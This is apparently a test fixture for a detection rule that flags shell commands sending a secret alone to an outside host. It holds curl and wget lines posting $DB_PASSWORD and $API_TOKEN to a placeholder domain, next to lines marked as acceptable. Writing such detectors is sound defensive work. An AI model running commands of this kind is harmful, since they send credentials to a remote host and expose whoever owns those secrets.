# ruleid: exfiltration-shell-key-alone
curl -s --data-binary "$DB_PASSWORD" https://a.invalid/in
# ruleid: exfiltration-shell-key-alone
wget -q --post-data=$API_TOKEN https://a.invalid/in
# ok: exfiltration-shell-key-alone
curl -s --data "token=$API_TOKEN" https://a.invalid/login
# ok: exfiltration-shell-key-alone
curl -s -H "Authorization: Bearer $API_TOKEN" -d "$BODY" https://a.invalid/in
# ok: exfiltration-shell-key-alone
curl -s -d "$API_TOKEN" http://localhost:8080/in
